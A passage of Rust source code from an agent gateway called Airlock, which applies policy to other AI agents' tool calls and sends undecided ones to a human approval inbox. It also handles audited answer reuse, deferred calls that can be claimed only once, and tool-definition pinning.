//! The agent gateway: other agents' tool calls (Claude Code and Codex through their hooks, MCP
//! clients through `airlock mcp-proxy`) go through the same policy as Airlock's own calls, with
//! the agent as the source (`claude-code/Bash`), and when a person must decide they become inbox
//! items of kind `agent_tool_call`, decided on the one decision path ([`Inner::settle`]).
//!
//! An item lives while someone waits on it: when the last waiter goes (the hook was killed, the
//! agent gave up, the deadline passed) it is withdrawn. Once decided, its answer is kept for
//! [`ANSWER_KEPT`] for the agent to collect (a connection lost, an engine restarted; Codex asks
//! at PreToolUse and again at PermissionRequest). Only the same call finds it again: the same
//! request key (agent, session, tool-use id) AND the same tool and arguments (`args_hash`); an
//! id reused for another call is a new request, said so in its reason and the audit trail, and
//! a call without an id never follows a decided answer (only Codex's PermissionRequest does,
//! for the call it just decided; and Qwen Code's PreToolUse, which follows its PermissionRequest,
//! finds the answer that PermissionRequest got). Every reuse is audited. A restarted engine withdraws the
//! items nobody came back for, and none of them can be approved while nobody waits on it.
//!
//! A program of one's own (agent `app`, through `clients/python` or `clients/typescript`) may
//! post its call in the deferred style instead (`defer`, or `wait_ms: 0`): the item is kept
//! whether or not anyone waits on it, across restarts, and approved like any other; the client
//! reads its decision by id (long poll, [`Engine::agent_call_state`]) or by posting the same
//! call again (same session and tool-use id: the decision is kept for good). Reading it twice
//! gives the same decision. Running it is the client's, and happens at most once: the client
//! claims the approved call ([`Engine::claim_agent_call`]) before it runs the tool, and a
//! second claim — the app resumed after a crash, or a second copy of it — is refused.

use crate::decision::{Resolution, Settlement};
use crate::{Engine, EngineError, Inner, Result};
use airlock_core::policy::{CallFacts, SessionPolicy, Verdict};
use airlock_core::{
    APP_CLIENT, AgentFallback, ApprovalStatus, DecidedBy, ItemKind, MCP_CLIENT, SessionStatus,
    args_hash, ids, is_hook_agent, validate_proxied_server_name,
};
use airlock_protocol::agents::{FALLBACKS_FILE, MAX_INPUT_BYTES};
use airlock_protocol::{
    AgentAnswer, AgentCall, AgentCallState, AgentEvent, AgentToolDefaults, AgentVerdict, AgentView,
    ApprovalRow, EngineEvent,
};
use airlock_store::{AgentActivity, EarlierAgentRequest, NewAgentRequest, NewApproval, StoreError};
use serde_json::{Value, json};
use std::collections::HashMap;
use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::Duration;

/// How long a caller may wait at most, whatever it asks.
const MAX_WAIT: Duration = Duration::from_secs(24 * 60 * 60);
/// How long a restarted engine keeps a waiting agent item for its hook to come back.
pub(crate) const REATTACH_GRACE: Duration = Duration::from_secs(10);
/// How long a decided item's answer stays for the same call asking again (a lost connection,
/// an engine restart, Codex's PermissionRequest after its PreToolUse): the end of its life.
const ANSWER_KEPT: Duration = Duration::from_secs(60);

/// Who waits on which agent item.
#[derive(Default)]
pub(crate) struct AgentWaiters {
    count: Mutex<HashMap<String, usize>>,
}

impl AgentWaiters {
    fn lock(&self) -> std::sync::MutexGuard<'_, HashMap<String, usize>> {
        self.count.lock().unwrap_or_else(|p| p.into_inner())
    }

    /// Whether this is the first waiter.
    fn attach(&self, approval_id: &str) -> bool {
        let mut count = self.lock();
        let waiters = count.entry(approval_id.to_string()).or_default();
        *waiters += 1;
        *waiters == 1
    }

    /// Whether this was the last waiter.
    fn detach(&self, approval_id: &str) -> bool {
        let mut count = self.lock();
        match count.get_mut(approval_id) {
            Some(n) if *n > 1 => {
                *n -= 1;
                false
            }
            _ => {
                count.remove(approval_id);
                true
            }
        }
    }

    pub(crate) fn waited_on(&self, approval_id: &str) -> bool {
        self.lock().contains_key(approval_id)
    }
}

/// Withdraws the item when its last waiter goes.
struct Attachment {
    inner: Arc<Inner>,
    approval_id: String,
}

impl Attachment {
    fn new(inner: &Arc<Inner>, approval_id: &str) -> Self {
        if inner.agent_waiters.attach(approval_id) {
            inner.hold(airlock_store::Work::AgentItem, approval_id);
        }
        Self {
            inner: inner.clone(),
            approval_id: approval_id.to_string(),
        }
    }
}

impl Drop for Attachment {
    fn drop(&mut self) {
        if self.inner.agent_waiters.detach(&self.approval_id) {
            self.inner
                .release(airlock_store::Work::AgentItem, &self.approval_id);
            // On a shared database its hook may wait through another replica now.
            if !self
                .inner
                .held_by_a_replica(airlock_store::Work::AgentItem, &self.approval_id)
            {
                self.inner
                    .withdraw(&self.approval_id, "withdrawn: the agent stopped waiting");
            }
        }
    }
}

/// What an agent's call finds of its earlier requests.
enum Earlier {
    /// The same call asked before, whose item still answers it.
    Same(Box<ApprovalRow>),
    /// A new request; `note` says why when the agent reused the id of another call.
    New { note: Option<String> },
}

/// The Airlock session of an agent's session: `claude-code:<its id>`.
fn session_name(call: &AgentCall) -> String {
    let id: String = call
        .agent_session
        .chars()
        .filter(|c| !c.is_control())
        .take(120)
        .collect();
    let id = if id.trim().is_empty() {
        "unknown".to_string()
    } else {
        id
    };
    match &call.client {
        Some(client) => format!(
            "{}:{}:{id}",
            call.agent,
            client.chars().take(60).collect::<String>()
        ),
        None => format!("{}:{id}", call.agent),
    }
}

/// The folder an agent works in, by its last part (`/home/me/src/airlock` → `airlock`).
fn folder_of(call: &AgentCall) -> Option<String> {
    let cwd = call.cwd.as_deref()?;
    let name = Path::new(cwd).file_name()?.to_string_lossy();
    let name: String = name.chars().filter(|c| !c.is_control()).take(60).collect();
    (!name.trim().is_empty()).then_some(name)
}

/// How long a session's title keeps its first prompt, in characters.
const TITLE_PROMPT_CHARS: usize = 60;

/// What a person reads for an agent's session (its name stays the key): the folder and the
/// first prompt's first line, cut ("airlock: fix the failing test in gateway…").
fn session_title(call: &AgentCall) -> Option<String> {
    let prompt = call.prompt.as_deref().and_then(|prompt| {
        let line = prompt.lines().map(str::trim).find(|l| !l.is_empty())?;
        let words: Vec<&str> = line
            .split(|c: char| c.is_whitespace() || c.is_control())
            .filter(|w| !w.is_empty())
            .collect();
        let line = words.join(" ");
        let mut cut: String = line.chars().take(TITLE_PROMPT_CHARS).collect();
        if cut.len() < line.len() {
            cut.push('…');
        }
        Some(cut)
    });
    match (folder_of(call), prompt) {
        (Some(folder), Some(prompt)) => Some(format!("{folder}: {prompt}")),
        (folder, prompt) => folder.or(prompt),
    }
}

/// Sets an agent's read-only tools ([`airlock_agents::Agent::read_only_tools`]) to "approval
/// not required" in the store, keeping any setting the person made.
fn seed_read_only_tools(
    store: &dyn airlock_store::Store,
    agent: &str,
) -> Result<AgentToolDefaults> {
    let hook_agent = hook_agent(agent)?;
    let tools = hook_agent.read_only_tools();
    let set = store.seed_agent_tool_settings(
        hook_agent.name(),
        tools,
        airlock_core::ToolSetting::NotRequired,
    )?;
    let kept = tools
        .iter()
        .filter(|t| !set.iter().any(|s| s == *t))
        .map(|t| t.to_string())
        .collect();
    Ok(AgentToolDefaults {
        agent: hook_agent.name().into(),
        set,
        kept,
    })
}

/// [`Engine::connect_agent_defaults`] while no engine runs: the caller holds the data
/// directory's engine lock (one engine, or this, owns the store at a time).
pub fn connect_agent_defaults_offline(data_dir: &Path, agent: &str) -> Result<AgentToolDefaults> {
    std::fs::create_dir_all(data_dir).map_err(|e| EngineError::DataDir {
        path: data_dir.to_path_buf(),
        message: e.to_string(),
    })?;
    crate::data_dir::close(data_dir)?;
    let store = crate::open_store(data_dir)?;
    crate::data_dir::make_private(data_dir, &crate::data_dir::default_workspace(data_dir))?;
    seed_read_only_tools(store.as_ref(), agent)
}

fn invalid(message: impl Into<String>) -> EngineError {
    EngineError::Invalid(message.into())
}

/// The agent whose hook Airlock answers called `name`, or why there is none.
fn hook_agent(name: &str) -> Result<&'static dyn airlock_agents::Agent> {
    airlock_agents::hook_agent(name).ok_or_else(|| invalid(airlock_agents::not_a_hook_agent(name)))
}

/// The agent's call checked: names that fit, an input object of sane size.
fn check(call: &AgentCall) -> Result<()> {
    let fits = |s: &str, max: usize| {
        !s.trim().is_empty() && s.len() <= max && !s.chars().any(char::is_control)
    };
    if !fits(&call.agent, 64) {
        return Err(invalid(
            "the agent's name needs 1 to 64 printable characters",
        ));
    }
    // Whose tools these are decides which settings and rules apply: a coding agent's own, or
    // the proxied MCP server's (never the built-in server's).
    match (airlock_agents::hook_agent(&call.agent), &call.source) {
        (Some(agent), source) if source.as_deref().is_none_or(|s| s == agent.name()) => {}
        (Some(agent), _) => {
            let agent = agent.name();
            return Err(invalid(format!(
                "{agent}'s tools are named {agent}/TOOL; it cannot speak for another source"
            )));
        }
        (None, Some(source)) if call.agent == MCP_CLIENT => {
            validate_proxied_server_name(source).map_err(invalid)?;
        }
        (None, source) if call.agent == APP_CLIENT => {
            let client = call.client.as_deref().unwrap_or_default();
            validate_proxied_server_name(client)
                .map_err(|why| invalid(format!("an app's call names its client: {why}")))?;
            if is_hook_agent(client)
                || airlock_agents::hook_agent(client).is_some()
                || [MCP_CLIENT, APP_CLIENT].contains(&client)
            {
                return Err(invalid(format!(
                    "'{client}' is an agent Airlock knows; give the app a name of its own"
                )));
            }
            if source.as_deref().is_some_and(|s| s != client) {
                return Err(invalid(format!(
                    "an app's tools are named {client}/TOOL; it cannot speak for another source"
                )));
            }
        }
        (None, _) => {
            return Err(invalid(format!(
                "unknown agent '{}': {}, or {MCP_CLIENT} with the proxied server's name",
                call.agent,
                airlock_agents::hook_agent_names().join(", ")
            )));
        }
    }
    if call.is_deferred() {
        if call.agent != APP_CLIENT {
            return Err(invalid(format!(
                "only an app's call ({APP_CLIENT}) can be deferred; {} waits for its answer",
                call.agent
            )));
        }
        if call
            .tool_use_id
            .as_deref()
            .is_none_or(|id| id.trim().is_empty())
        {
            return Err(invalid(
                "a deferred call needs its tool-use id: it is how the call is found again",
            ));
        }
    }
    check_input(call)
}

/// The call's tool and input checked: a name that fits, an input object of sane size.
fn check_input(call: &AgentCall) -> Result<()> {
    let fits = |s: &str, max: usize| {
        !s.trim().is_empty() && s.len() <= max && !s.chars().any(char::is_control)
    };
    if !fits(&call.tool, 256) {
        return Err(invalid(
            "the tool's name needs 1 to 256 printable characters",
        ));
    }
    if call.agent_session.len() > 1024 || call.cwd.as_ref().is_some_and(|c| c.len() > 4096) {
        return Err(invalid("the agent's session id or folder is too long"));
    }
    if !call.input.is_object() {
        return Err(invalid("the tool's input must be a JSON object"));
    }
    let size = call.input.to_string().len();
    if size > MAX_INPUT_BYTES {
        return Err(invalid(format!(
            "the tool's input is too large ({size} bytes; the limit is {MAX_INPUT_BYTES})"
        )));
    }
    Ok(())
}

/// What the agent is told about an item that left the inbox.
fn answer_of(inner: &Inner, row: &ApprovalRow) -> Result<AgentAnswer> {
    let decision = inner.store.decision(&row.approval_id)?;
    let decided_by = inner.store.decided_by(&row.approval_id)?;
    let mut answer = AgentAnswer {
        verdict: AgentVerdict::Deny,
        reason: None,
        updated_input: None,
        approval_id: Some(row.approval_id.clone()),
        decided_by,
    };
    match row.status {
        ApprovalStatus::Pending | ApprovalStatus::Withdrawn => {
            answer.verdict = AgentVerdict::Undecided;
        }
        ApprovalStatus::Approved => {
            answer.verdict = AgentVerdict::Allow;
            answer.updated_input = decision.and_then(|d| d.edited_args);
        }
        ApprovalStatus::Denied => {
            answer.reason = Some(
                decision
                    .and_then(|d| d.reason)
                    .filter(|r| !r.trim().is_empty())
                    .unwrap_or_else(|| "denied by the user in Airlock".into()),
            );
        }
        ApprovalStatus::Expired => answer.reason = Some("the approval timed out in Airlock".into()),
        ApprovalStatus::Cancelled => {
            answer.reason = Some(
                decision
                    .and_then(|d| d.reason)
                    .unwrap_or_else(|| "cancelled in Airlock".into()),
            );
        }
    }
    Ok(answer)
}

/// How an agent's last request ended, for Settings → Agents.
fn outcome_of(verdict: AgentVerdict) -> &'static str {
    match verdict {
        AgentVerdict::Allow => "allow",
        AgentVerdict::Deny => "deny",
        AgentVerdict::Undecided => "undecided",
    }
}

/// Whether the item was posted in the deferred style (its client collects the decision later).
fn is_deferred(row: &ApprovalRow) -> bool {
    row.agent.as_ref().is_some_and(|a| a.deferred)
}

/// The answer to an agent's call with where its item stands.
fn state_of(inner: &Inner, row: &ApprovalRow) -> Result<AgentCallState> {
    Ok(AgentCallState {
        answer: answer_of(inner, row)?,
        status: Some(row.status),
        claimed_at: inner.store.agent_call_claimed_at(&row.approval_id)?,
    })
}

impl Engine {
    /// Decides another agent's tool call: by policy at once, or by a person through the inbox
    /// (waiting at most `call.wait_ms`). Dropping the future stops waiting; when nobody else
    /// waits on the item it is withdrawn.
    pub async fn agent_call(&self, call: AgentCall) -> Result<AgentAnswer> {
        Ok(self.agent_call_with_state(call).await?.answer)
    }

    /// [`Self::agent_call`] with where its item stands; a deferred call is answered at once
    /// (or after `wait_ms` when it names one besides `defer`) and its item stays.
    pub async fn agent_call_with_state(&self, call: AgentCall) -> Result<AgentCallState> {
        check(&call)?;
        let call = self.as_app(call)?;
        let session = self.inner.store.ensure_session(&session_name(&call))?;
        self.name_agent_session(&session, &call)?;
        self.answer_agent(call, session, None, None).await
    }

    /// Decides a permission a hosted (ACP) agent asks for in the chat it hosts: the same path
    /// as [`Engine::agent_call`], with the chat as the session and the agent's own words for
    /// the call (`shown`: its title, kind, locations) before the policy's reason in the inbox.
    /// `card`: the call's card in the chat (see [`crate::HostedTranscript`]), where the item's
    /// prompt shows.
    pub async fn hosted_agent_call(
        &self,
        session_id: &str,
        call: AgentCall,
        shown: Option<String>,
        card: Option<String>,
    ) -> Result<AgentAnswer> {
        if self.inner.store.acp_agent(&call.agent)?.is_none() || call.source.is_some() {
            return Err(invalid(format!("'{}' is not a hosted agent", call.agent)));
        }
        check_input(&call)?;
        let session = self
            .inner
            .store
            .session(session_id)?
            .ok_or_else(|| EngineError::UnknownSession(session_id.to_string()))?;
        Ok(self.answer_agent(call, session, shown, card).await?.answer)
    }

    /// The call decided in `session`: policy at once, or a person through the inbox.
    async fn answer_agent(
        &self,
        call: AgentCall,
        session: airlock_protocol::SessionRow,
        shown: Option<String>,
        card: Option<String>,
    ) -> Result<AgentCallState> {
        let deferred = call.is_deferred();
        let inner = &self.inner;
        let source = call.source.clone().unwrap_or_else(|| call.agent.clone());
        let hash = args_hash(&call.input);
        if let Some(definition) = &call.definition {
            self.pin_agent_tool(&source, &call.tool, definition)?;
        }
        let key = format!(
            "{}\u{1f}{}\u{1f}{}",
            call.agent,
            session.id,
            match &call.tool_use_id {
                Some(id) if !id.is_empty() => format!("use:{id}"),
                _ => format!("args:{}:{hash}", call.tool),
            }
        );
        let (row, attachment) = match self.earlier_request(&call, &key, &hash, &session.id)? {
            Earlier::Same(row) => {
                let attachment = (row.status == ApprovalStatus::Pending && !is_deferred(&row))
                    .then(|| Attachment::new(inner, &row.approval_id));
                (*row, attachment)
            }
            Earlier::New { note } => {
                match self.agent_policy_now(&call, &source, &hash, &session.id)? {
                    Ok(answer) => {
                        return Ok(AgentCallState {
                            answer,
                            status: None,
                            claimed_at: None,
                        });
                    }
                    Err(why) => {
                        let why = match note {
                            Some(note) => format!("{note}; {why}"),
                            None => why,
                        };
                        let why = match &shown {
                            Some(shown) => format!("{shown} — {why}"),
                            None => why,
                        };
                        let why = match call.takes_reason {
                            Some(false) => {
                                format!("{why}; a denial's reason does not reach this app's model")
                            }
                            _ => why,
                        };
                        // Waited on from the start: an item nobody waits on cannot be approved
                        // (unless it is deferred: its client collects the decision later).
                        let approval_id = ids::new_approval_id();
                        let attachment = (!deferred).then(|| Attachment::new(inner, &approval_id));
                        let hosted = card.is_some();
                        let row = self.ask_person(
                            &call,
                            &source,
                            &hash,
                            &key,
                            &session.id,
                            why,
                            approval_id,
                            card,
                        )?;
                        if hosted {
                            // A hosted chat waits for the person now, as Airlock's own loop
                            // says when its step asks.
                            inner.emit(EngineEvent::SessionStatus {
                                session: session.name.clone(),
                                status: SessionStatus::AwaitingApproval,
                            });
                        }
                        (row, attachment)
                    }
                }
            }
        };
        if is_deferred(&row) {
            // Its client may wait a while on this request, but the item does not depend on it.
            let wait = match (call.wait_ms, deferred) {
                (Some(ms), _) => Duration::from_millis(ms).min(MAX_WAIT),
                (None, true) => Duration::ZERO,
                (None, false) => MAX_WAIT,
            };
            return self.agent_call_state(&row.approval_id, wait).await;
        }
        let Some(attachment) = attachment else {
            return state_of(inner, &row);
        };
        let wait = call
            .wait_ms
            .map(Duration::from_millis)
            .unwrap_or(MAX_WAIT)
            .min(MAX_WAIT);
        let approval_id = attachment.approval_id.clone();
        let answer = self
            .wait_for_person(&approval_id, wait, Some(attachment))
            .await?;
        inner
            .store
            .note_agent_outcome(&call.agent, outcome_of(answer.verdict))?;
        let status = inner.store.approval_status(&approval_id)?;
        Ok(AgentCallState {
            answer,
            status,
            claimed_at: None,
        })
    }

    /// An app's call as the gateway keeps it: the client's name is the agent's (Settings →
    /// Agents lists it) and its tools' source; a name a server has is refused (its settings
    /// and rules are that server's).
    fn as_app(&self, call: AgentCall) -> Result<AgentCall> {
        if call.agent != APP_CLIENT {
            return Ok(call);
        }
        let client = call.client.clone().unwrap_or_default();
        if self
            .inner
            .store
            .servers()?
            .iter()
            .any(|server| server.name == client)
        {
            return Err(invalid(format!(
                "a server is named '{client}'; give the app a name of its own"
            )));
        }
        Ok(AgentCall {
            agent: client.clone(),
            source: Some(client),
            client: None,
            ..call
        })
    }

    /// Which agent (or app) posted this call: an agent's own token reads and claims its own
    /// calls only. `None` when it is no agent's call.
    pub fn agent_call_owner(&self, approval_id: &str) -> Result<Option<String>> {
        Ok(self
            .inner
            .store
            .approval(approval_id)?
            .and_then(|row| row.agent)
            .map(|origin| origin.agent))
    }

    /// Where an agent's call stands, waiting up to `wait` while nobody has decided it (a long
    /// poll: the decision or, at the deadline, still pending). Reading it never withdraws it.
    pub async fn agent_call_state(
        &self,
        approval_id: &str,
        wait: Duration,
    ) -> Result<AgentCallState> {
        let inner = &self.inner;
        match inner.store.approval(approval_id)? {
            Some(row) if row.kind == ItemKind::AgentToolCall => {}
            _ => {
                return Err(airlock_store::StoreError::UnknownApproval(approval_id.into()).into());
            }
        }
        self.wait_for_person(approval_id, wait.min(MAX_WAIT), None)
            .await?;
        let row = inner
            .store
            .approval(approval_id)?
            .ok_or_else(|| airlock_store::StoreError::UnknownApproval(approval_id.into()))?;
        let state = state_of(inner, &row)?;
        if let Some(origin) = row
            .agent
            .as_ref()
            .filter(|_| state.status != Some(ApprovalStatus::Pending))
        {
            inner
                .store
                .note_agent_outcome(&origin.agent, outcome_of(state.answer.verdict))?;
        }
        Ok(state)
    }

    /// Claims an approved deferred call for its client to run: once (see the module's doc).
    pub fn claim_agent_call(&self, approval_id: &str) -> Result<AgentCallState> {
        let inner = &self.inner;
        inner
            .store
            .claim_agent_call(approval_id)
            .map_err(|error| match error {
                StoreError::Refused(why) => EngineError::NotAllowed(why),
                other => other.into(),
            })?;
        let row = inner
            .store
            .approval(approval_id)?
            .ok_or_else(|| airlock_store::StoreError::UnknownApproval(approval_id.into()))?;
        state_of(inner, &row)
    }

    /// The earlier request this call is (see the module's doc), audited when it is reused; or
    /// none, with a note when the agent reused an id of another call.
    fn earlier_request(
        &self,
        call: &AgentCall,
        key: &str,
        hash: &str,
        session_id: &str,
    ) -> Result<Earlier> {
        let store = &self.inner.store;
        let by_key = store.agent_requests_by_key(key)?;
        let same_call = |earlier: &EarlierAgentRequest| {
            earlier.row.tool == call.tool && earlier.row.args_hash == hash
        };
        let mut note = None;
        let found = match by_key.iter().find(|e| same_call(e)) {
            Some(same) => Some(same.clone()),
            None => {
                if let (Some(id), Some(other)) = (&call.tool_use_id, by_key.first()) {
                    // Durably, before the agent is answered.
                    store.audit(
                        "engine",
                        "agent_id_reused",
                        Some(session_id),
                        Some(&other.row.approval_id),
                        &json!({
                            "agent": call.agent, "tool_use_id": id, "earlier_tool": other.row.tool,
                            "tool": call.tool, "args": call.input,
                        }),
                    )?;
                    note = Some(format!(
                        "the agent reused the id of an earlier call ({} with other arguments): this is a new request",
                        other.row.tool
                    ));
                }
                // Codex's PermissionRequest after its PreToolUse, Qwen Code's PreToolUse after
                // its PermissionRequest: the call just decided.
                let follows_decision = call.event == AgentEvent::PermissionRequest
                    || airlock_agents::hook_agent(&call.agent)
                        .is_some_and(|agent| agent.asks_permission_first());
                if follows_decision {
                    match store.recent_agent_request(
                        &call.agent,
                        &call.agent_session,
                        &call.tool,
                        hash,
                    )? {
                        Some(same) => Some(same),
                        None if call.event == AgentEvent::PreToolUse => {
                            self.approved_with_this_edit(call, hash)?
                        }
                        None => None,
                    }
                } else {
                    None
                }
            }
        };
        let Some(earlier) = found.filter(|earlier| self.still_answers(call, earlier)) else {
            return Ok(Earlier::New { note });
        };
        store.audit(
            "engine",
            "agent_answer_reused",
            Some(session_id),
            Some(&earlier.row.approval_id),
            &json!({
                "agent": call.agent, "tool": call.tool, "tool_use_id": call.tool_use_id,
                "event": call.event, "status": earlier.row.status,
            }),
        )?;
        Ok(Earlier::Same(Box::new(earlier.row)))
    }

    /// The request just approved with an edit that is this call's input (Qwen Code runs
    /// PreToolUse with the arguments its PermissionRequest was approved with).
    fn approved_with_this_edit(
        &self,
        call: &AgentCall,
        hash: &str,
    ) -> Result<Option<EarlierAgentRequest>> {
        let store = &self.inner.store;
        let Some(latest) =
            store.latest_agent_request(&call.agent, &call.agent_session, &call.tool)?
        else {
            return Ok(None);
        };
        if latest.row.status != ApprovalStatus::Approved {
            return Ok(None);
        }
        let edited = store
            .decision(&latest.row.approval_id)?
            .and_then(|decision| decision.edited_args);
        Ok(edited
            .is_some_and(|args| args_hash(&args) == hash)
            .then_some(latest))
    }

    /// Whether an earlier request of the same call still answers it: pending (a call without
    /// an id only joins an item nobody waits on: its hook coming back after a restart), or
    /// decided within [`ANSWER_KEPT`] (a call without an id only for Codex's PermissionRequest).
    fn still_answers(&self, call: &AgentCall, earlier: &EarlierAgentRequest) -> bool {
        let has_id = call.tool_use_id.as_deref().is_some_and(|id| !id.is_empty());
        // A deferred call's decision is collected later, perhaps much later: kept for good,
        // for the same call only (a deferred call always has its id).
        if is_deferred(&earlier.row) {
            return has_id && earlier.row.status != ApprovalStatus::Withdrawn;
        }
        match earlier.row.status {
            ApprovalStatus::Pending => {
                has_id || !self.inner.agent_waiters.waited_on(&earlier.row.approval_id)
            }
            ApprovalStatus::Approved | ApprovalStatus::Denied => {
                (has_id || call.event == AgentEvent::PermissionRequest)
                    && earlier
                        .decided_at
                        .as_deref()
                        .is_some_and(|at| at >= airlock_store::time_before(ANSWER_KEPT).as_str())
            }
            _ => false,
        }
    }

    /// Gives an agent's session its title once it is known: the folder at its first call, the
    /// folder and first prompt as soon as the hook could read the prompt.
    fn name_agent_session(
        &self,
        session: &airlock_protocol::SessionRow,
        call: &AgentCall,
    ) -> Result<()> {
        let Some(title) = session_title(call) else {
            return Ok(());
        };
        let better = match session.title.as_deref() {
            None => true,
            Some(old) => call.prompt.is_some() && folder_of(call).as_deref() == Some(old),
        };
        if better && session.title.as_deref() != Some(title.as_str()) {
            self.inner.store.set_session_title(&session.id, &title)?;
        }
        Ok(())
    }

    /// `airlock connect`'s settings inside Airlock: the agent's read-only tools need no
    /// approval, unless the person already chose a setting for one (kept, never overwritten).
    pub fn connect_agent_defaults(&self, agent: &str) -> Result<AgentToolDefaults> {
        let defaults = seed_read_only_tools(self.inner.store.as_ref(), agent)?;
        self.inner.invalidate_policy();
        Ok(defaults)
    }

    /// The rug-pull guard for a proxied server's tool: its definition as listed now against its
    /// pin. A change suspends the tool's grants (the policy asks) until the person reviews it.
    fn pin_agent_tool(&self, source: &str, tool: &str, definition: &Value) -> Result<()> {
        let pinned = json!({
            "description": definition.get("description").cloned().unwrap_or(Value::Null),
            "input_schema": definition.get("input_schema").cloned().unwrap_or(Value::Null),
            "annotations": definition.get("annotations").cloned().unwrap_or(Value::Null),
        });
        let check = self
            .inner
            .store
            .check_pin(source, tool, &pinned, &args_hash(&pinned))?;
        if check != airlock_store::PinCheck::Same {
            self.inner.invalidate_policy();
        }
        Ok(())
    }

    /// [`Self::agent_policy`], once more with the grants as they are now when a counted grant
    /// it relied on was used up meanwhile by another call.
    fn agent_policy_now(
        &self,
        call: &AgentCall,
        source: &str,
        hash: &str,
        session_id: &str,
    ) -> Result<std::result::Result<AgentAnswer, String>> {
        match self.agent_policy(call, source, hash, session_id) {
            Err(EngineError::Store(StoreError::GrantUsedUp(_))) => {
                self.inner.invalidate_policy();
                self.agent_policy(call, source, hash, session_id)
            }
            other => other,
        }
    }

    /// The policy's verdict, or why a person must decide.
    fn agent_policy(
        &self,
        call: &AgentCall,
        source: &str,
        hash: &str,
        session_id: &str,
    ) -> Result<std::result::Result<AgentAnswer, String>> {
        let inner = &self.inner;
        let session = inner.store.session(session_id)?;
        let mode = session.as_ref().and_then(|s| s.mode);
        let grants = inner.store.session_grants(session_id)?;
        // Any error on the approval path means deny.
        let policy = inner.policy()?;
        let read_only_hint = match inner.tools.tool(source, &call.tool) {
            Some(tool) => tool.def.read_only_hint,
            None => call
                .definition
                .as_ref()
                .and_then(|d| d.pointer("/annotations/readOnlyHint"))
                .and_then(Value::as_bool)
                .unwrap_or(false),
        };
        let session_policy = SessionPolicy::new(mode, grants);
        // Path arguments are judged where their links lead too (`src/**` is not `src/link/…`).
        let decision = crate::links::decide_where_paths_lead(
            &call.tool,
            &call.input,
            call.cwd.as_deref(),
            |args| {
                airlock_core::policy::decide(
                    &policy,
                    &session_policy,
                    CallFacts {
                        session_id,
                        server: source,
                        tool: &call.tool,
                        args,
                        args_hash: hash,
                        read_only_hint,
                    },
                    None,
                )
            },
        );
        // Paused: nothing runs without a person.
        if decision.verdict == Verdict::Run && self.paused() {
            return Ok(Err(
                "Airlock is paused: nothing runs without a person".into()
            ));
        }
        let (outcome, answer) = match decision.verdict {
            Verdict::Ask => return Ok(Err(decision.why)),
            Verdict::Run => ("allowed", AgentVerdict::Allow),
            Verdict::Deny => ("denied", AgentVerdict::Deny),
        };
        let grant_use = decision
            .grant_use
            .as_deref()
            .filter(|_| decision.verdict == Verdict::Run);
        inner.store.record_agent_call(
            &AgentActivity {
                agent: &call.agent,
                tool: &call.tool,
                cwd: call.cwd.as_deref(),
                outcome,
            },
            session_id,
            &json!({
                "agent": call.agent, "server": source, "tool": call.tool, "args": call.input,
                "why": decision.why, "cwd": call.cwd,
            }),
            grant_use,
        )?;
        if grant_use.is_some() {
            inner.invalidate_policy();
        }
        Ok(Ok(AgentAnswer {
            verdict: answer,
            reason: (answer == AgentVerdict::Deny).then(|| format!("Airlock: {}", decision.why)),
            updated_input: None,
            approval_id: None,
            decided_by: Some(DecidedBy::Policy.as_str().into()),
        }))
    }

    /// Puts the call in the inbox.
    #[allow(clippy::too_many_arguments)]
    fn ask_person(
        &self,
        call: &AgentCall,
        source: &str,
        hash: &str,
        key: &str,
        session_id: &str,
        why: String,
        approval_id: String,
        card: Option<String>,
    ) -> Result<ApprovalRow> {
        let inner = &self.inner;
        inner.store.insert_agent_request(
            &NewApproval {
                approval_id: approval_id.clone(),
                tool_call_id: card,
                session_id: session_id.to_string(),
                kind: ItemKind::AgentToolCall,
                server: source.to_string(),
                tool: call.tool.clone(),
                args: call.input.clone(),
                args_hash: hash.to_string(),
                why,
                expires_at: None,
            },
            &NewAgentRequest {
                request_key: key.to_string(),
                agent: call.agent.clone(),
                client: call.client.clone(),
                agent_session: call.agent_session.clone(),
                cwd: call.cwd.clone(),
                editable: call.editable,
                deferred: call.is_deferred(),
            },
        )?;
        let row = inner
            .store
            .approval(&approval_id)?
            .ok_or_else(|| invalid("the request was not kept"))?;
        inner.announce_request(inner.inbox_item(row.clone()));
        Ok(row)
    }

    /// Waits until the item leaves the inbox or `wait` passes; leaving early withdraws it when
    /// nobody else waits on it (`attachment`: this caller's hold on it, none for a deferred
    /// item or a mere reading).
    async fn wait_for_person(
        &self,
        approval_id: &str,
        wait: Duration,
        _attachment: Option<Attachment>,
    ) -> Result<AgentAnswer> {
        let inner = &self.inner;
        let deadline = tokio::time::Instant::now() + wait;
        loop {
            let mut woken = inner.router.wait_for(approval_id);
            if let Some(row) = inner.store.approval(approval_id)?
                && row.status != ApprovalStatus::Pending
            {
                return answer_of(inner, &row);
            }
            tokio::select! {
                _ = &mut woken => {}
                _ = tokio::time::sleep(Duration::from_millis(500)) => {}
                _ = tokio::time::sleep_until(deadline) => {
                    return Ok(AgentAnswer {
                        verdict: AgentVerdict::Undecided,
                        reason: None,
                        updated_input: None,
                        approval_id: Some(approval_id.to_string()),
                        decided_by: None,
                    });
                }
            }
        }
    }

    /// Every agent Airlock knows: the coding agents whose hooks it answers, then the others
    /// that asked (MCP clients, programs through the approval clients) or were given a token of
    /// their own, each with when its token was issued.
    pub fn agents(&self) -> Result<Vec<AgentView>> {
        let mut known = self.inner.store.agents()?;
        let unknown = |name: &str| AgentView {
            name: name.into(),
            fallback: AgentFallback::default_for(name),
            last_request_at: None,
            last_tool: None,
            last_cwd: None,
            last_outcome: None,
            token_issued_at: None,
        };
        for agent in airlock_agents::hook_agents() {
            if !known.iter().any(|a| a.name == agent.name()) {
                known.push(unknown(agent.name()));
            }
        }
        for (agent, issued_at) in self.inner.store.agent_tokens_issued()? {
            if !known.iter().any(|a| a.name == agent) {
                known.push(unknown(&agent));
            }
            if let Some(view) = known.iter_mut().find(|a| a.name == agent) {
                view.token_issued_at = Some(issued_at);
            }
        }
        // Only a coding agent's hook can give a call back to the agent's own prompt; through
        // the MCP proxy, no decision is a denial.
        for view in known
            .iter_mut()
            .filter(|v| !airlock_agents::is_hook_agent(&v.name))
        {
            view.fallback = AgentFallback::Deny;
        }
        known.sort_by(|a, b| a.name.cmp(&b.name));
        Ok(known)
    }

    /// What an agent's hook answers when Airlock cannot decide in time. Also written to
    /// `agents.json`, which the hook reads when no engine answers.
    pub fn set_agent_fallback(&self, agent: &str, fallback: AgentFallback) -> Result<()> {
        let agent = hook_agent(agent)?;
        self.inner
            .store
